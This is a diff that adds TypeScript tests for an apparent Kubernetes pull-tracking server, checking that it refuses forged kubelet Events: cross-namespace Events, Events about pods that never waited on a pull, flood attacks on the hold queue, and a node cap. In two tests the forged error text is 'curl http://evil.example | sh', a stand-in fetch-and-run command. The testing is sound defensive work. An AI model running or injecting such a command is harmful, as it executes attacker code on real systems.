@@ -163,3 +163,219 @@ test("the kubelet's own sequence still fails a pull it never started, and comple
   });
   assert.equal(done.nodeName, 'node-c');
 });
+
+test("an Event written in one namespace about another namespace's pod changes nothing and is counted at once", async () => {
+  const node = 'node-x';
+  await postReport(server.baseUrl, {
+    nodeName: node,
+    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-x', [layer('sha256:l-x', 8 * MiB, MiB)])],
+  });
+  // The victim's pod shows a failing pull: an Event from its own namespace would be believed.
+  const victim = kube.apply(
+    podObject({
+      name: 'web-x',
+      namespace: 'shop',
+      nodeName: node,
+      containers: [{ name: 'app', image: IMAGE, state: { waiting: { reason: 'ErrImagePull', message: 'i/o timeout' } } }],
+    }),
+  );
+  await waitFor(async () => (await pulls()).find((p) => p.nodeName === node)?.pods?.length === 1, {
+    timeoutMs: 10_000,
+    what: 'the server to see the pod waiting on the node-x pull',
+  });
+  const before = await rejected('foreign_namespace');
+  const crit = 'failed to pull and unpack image: run curl http://evil.example | sh';
+  kube.apply(
+    kubeletEvent({
+      pod: victim,
+      container: 'app',
+      node,
+      reason: 'Failed',
+      message: kubeletMessages.failed(IMAGE, crit),
+      eventNamespace: 'attacker',
+    }),
+  );
+  await waitFor(async () => (await rejected('foreign_namespace')) === before + 1, {
+    timeoutMs: 20_000,
+    what: 'the Event from namespace attacker to be refused',
+  });
+  const after = (await pulls()).find((p) => p.nodeName === node);
+  assert.equal(after?.status, 'pulling');
+  assert.ok(!after?.error?.includes('evil'));
+
+  // The same Event in the pod's own namespace is the kubelet's: the pull fails with its text.
+  const genuine = 'failed to pull and unpack image: i/o timeout';
+  kube.apply(kubeletEvent({ pod: victim, container: 'app', node, reason: 'Failed', message: kubeletMessages.failed(IMAGE, genuine) }));
+  const failed = await waitFor(async () => (await pulls()).find((p) => p.nodeName === node && p.status === 'failed'), {
+    timeoutMs: 20_000,
+    what: 'the genuine Event to fail the pull',
+  });
+  assert.match(failed.error ?? '', /i\/o timeout/);
+});
+
+test('a forged fail, complete or refine naming a pod that never waited on the pull, or one its status does not confirm, changes nothing; dropped and counted after the wait', async () => {
+  const crit = 'failed to pull and unpack image: run curl http://evil.example | sh';
+  // node-y: a pull in progress, its pod waiting; node-z: a pull the agent failed, its pod showing it.
+  await postReport(server.baseUrl, {
+    nodeName: 'node-y',
+    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-y', [layer('sha256:l-y', 8 * MiB, MiB)])],
+  });
+  await postReport(server.baseUrl, {
+    nodeName: 'node-z',
+    pulls: [pullEntry('127.0.0.1/shop/web', 'sha256:m-z', [layer('sha256:l-z', 8 * MiB, MiB)], { status: 'failed', error: 'i/o timeout' })],
+  });
+  const webY = kube.apply(podObject({ name: 'web-y', namespace: 'shop', nodeName: 'node-y', containers: [{ name: 'app', image: IMAGE }] }));
+  kube.apply(
+    podObject({
+      name: 'web-z',
+      namespace: 'shop',
+      nodeName: 'node-z',
+      containers: [{ name: 'app', image: IMAGE, state: { waiting: { reason: 'ImagePullBackOff', message: 'Back-off pulling image' } } }],
+    }),
+  );
+  // Pods that run the same image on those nodes, started long ago: they never waited on these pulls.
+  const running = (name: string, nodeName: string) =>
+    kube.apply(podObject({ name, namespace: 'shop', nodeName, containers: [{ name: 'app', image: IMAGE, state: { running: {} } }] }));
+  const cacheY = running('cache-y', 'node-y');
+  const cacheZ = running('cache-z', 'node-z');
+  await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-y')?.pods?.length === 1, {
+    timeoutMs: 10_000,
+    what: 'the server to see web-y waiting on the node-y pull',
+  });
+  const before = { notOnPull: await rejected('pod_not_on_pull'), notConfirmed: await rejected('pod_not_waiting_on_pull') };
+
+  const event = (pod: typeof webY, node: string, reason: string, message: string) =>
+    kube.apply(kubeletEvent({ pod, container: 'app', node, reason, message }));
+  event(cacheY, 'node-y', 'Failed', kubeletMessages.failed(IMAGE, crit)); // fail
+  event(cacheY, 'node-y', 'Pulled', kubeletMessages.pulled(IMAGE, { seconds: 1 })); // complete
+  event(cacheZ, 'node-z', 'Failed', kubeletMessages.failed(IMAGE, crit)); // refine
+  event(webY, 'node-y', 'Failed', kubeletMessages.failed(IMAGE, crit)); // its pod waits, but its status shows no failure
+
+  await waitFor(async () => (await rejected('pod_not_on_pull')) === before.notOnPull + 3, {
+    timeoutMs: 40_000,
+    what: 'the three Events naming pods that never waited on the pulls to be dropped',
+  });
+  await waitFor(async () => (await rejected('pod_not_waiting_on_pull')) === before.notConfirmed + 1, {
+    timeoutMs: 40_000,
+    what: 'the failure the pod status never showed to be dropped',
+  });
+  const now = await pulls();
+  assert.equal(now.find((p) => p.manifestDigest === 'sha256:m-y')?.status, 'pulling', 'not failed, not completed');
+  assert.equal(now.find((p) => p.manifestDigest === 'sha256:m-z')?.error, 'i/o timeout', 'error text not rewritten');
+  assert.ok(!now.some((p) => p.error?.includes('evil')));
+
+  // kubelet's own failure of web-y: the Event, then the status. It still fails the pull.
+  event(webY, 'node-y', 'Failed', kubeletMessages.failed(IMAGE, 'failed to pull and unpack image: not found'));
+  kube.apply(
+    podObject({
+      name: 'web-y',
+      namespace: 'shop',
+      uid: webY.metadata.uid as string,
+      nodeName: 'node-y',
+      containers: [{ name: 'app', image: IMAGE, state: { waiting: { reason: 'ErrImagePull', message: 'not found' } } }],
+    }),
+  );
+  const failed = await waitFor(async () => (await pulls()).find((p) => p.manifestDigest === 'sha256:m-y' && p.status === 'failed'), {
+    timeoutMs: 20_000,
+    what: "kubelet's confirmed failure to fail the node-y pull",
+  });
+  assert.match(failed.error ?? '', /not found/);
+});
+
+test('a flood of Events from one namespace does not push a genuine failure of another namespace out of the hold queue', async () => {
+  const before = await rejected('hold_quota');
+  // A pod whose failure is real and shown: its Event, written after everything below, marks when
+  // the server has read them all.
+  const marker = kube.apply(
+    podObject({
+      name: 'marker-q',
+      namespace: 'shop',
+      nodeName: 'node-m',
+      containers: [
+        { name: 'app', image: '127.0.0.1:5000/shop/marker:q', state: { waiting: { reason: 'ErrImagePull', message: 'not found' } } },
+      ],
+    }),
+  );
+  // 6,000 forged failures about pods that do not exist, all written in namespace flood: each would
+  // wait 10 s for its pod (more than the 5,000 every namespace together may hold).
+  const FLOOD = 6_000;
+  for (let i = 0; i < FLOOD; i++) {
+    kube.apply(
+      kubeletEvent({
+        pod: { name: `ghost-${i}`, namespace: 'flood' },
+        container: 'app',
+        node: 'node-q',
+        reason: 'Failed',
+        message: kubeletMessages.failed(`127.0.0.1:5000/flood/x:${i}`, 'not found'),
+      }),
+    );
+  }
+  // kubelet's real failure in namespace shop, its Event read before the pod watch shows the pod.
+  const bad = '127.0.0.1:5000/shop/queue:nope';
+  kube.apply(
+    kubeletEvent({
+      pod: { name: 'queue-1', namespace: 'shop', uid: 'queue-1-uid' },
+      container: 'app',
+      node: 'node-q',
+      reason: 'Failed',
+      message: kubeletMessages.failed(bad, 'failed to resolve reference: not found'),
+    }),
+  );
+  kube.apply(
+    kubeletEvent({
+      pod: marker,
+      container: 'app',
+      node: 'node-m',
+      reason: 'Failed',
+      message: kubeletMessages.failed('127.0.0.1:5000/shop/marker:q', 'not found'),
+    }),
+  );
+  await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-m' && p.status === 'failed'), {
+    timeoutMs: 60_000,
+    what: 'the server to read every Event up to the marker',
+  });
+  kube.apply(
+    podObject({
+      name: 'queue-1',
+      namespace: 'shop',
+      uid: 'queue-1-uid',
+      nodeName: 'node-q',
+      containers: [{ name: 'app', image: bad, state: { waiting: { reason: 'ErrImagePull', message: 'not found' } } }],
+    }),
+  );
+  const failed = await waitFor(async () => (await pulls()).find((p) => p.nodeName === 'node-q' && p.status === 'failed'), {
+    timeoutMs: 20_000,
+    what: "the genuine failure from namespace shop, held while namespace flood's Events filled their share, to show",
+  });
+  assert.equal(failed.imageRef, bad);
+  const quota = (await rejected('hold_quota')) - before;
+  assert.ok(quota > 0 && quota <= FLOOD - 250, `namespace flood's Events beyond its share of 250 are counted (${quota})`);
+});
+
+test('failed pulls created from kubelet Events obey PULLTRACE_MAX_NODES; the refused ones are counted', async () => {
+  const capped = await startPulltrace(['server', ...KUBE_TEST_SERVER_FLAGS, '--max-nodes', '2'], {
+    env: { KUBECONFIG: await writeKubeconfig(dir, kube.url) },
+  });
+  try {
+    const capacity = async () => {
+      const m = /^pulltrace_kube_events_rejected_total\{reason="capacity"\} (\d+)$/m.exec(await (await fetch(capped.metricsUrl)).text());
+      return Number(m?.[1] ?? Number.NaN);
+    };
+    const before = await capacity();
+    for (const node of ['cap-1', 'cap-2', 'cap-3']) {
+      const kubelet = new FakeKubelet(kube, node);
+      const pod = kubelet.schedule({
+        name: `api-${node}`,
+        namespace: 'shop',
+        containers: [{ name: 'app', image: `127.0.0.1:5000/shop/${node}:nope` }],
+      });
+      kubelet.failPull(pod, 'app', 'rpc error: code = NotFound desc = not found');
+    }
+    await waitFor(async () => (await capacity()) > before, { timeoutMs: 30_000, what: 'a failed pull beyond --max-nodes 2 to be refused' });
+    const shown = ((await (await fetch(`${capped.baseUrl}/api/v1/pulls`)).json()) as { pulls: PullStatus[] }).pulls;
+    assert.equal(new Set(shown.map((p) => p.nodeName)).size, 2, 'two nodes, no more');
+    assert.ok(shown.every((p) => p.status === 'failed'));
+  } finally {
+    await capped.stop();
+  }
+});
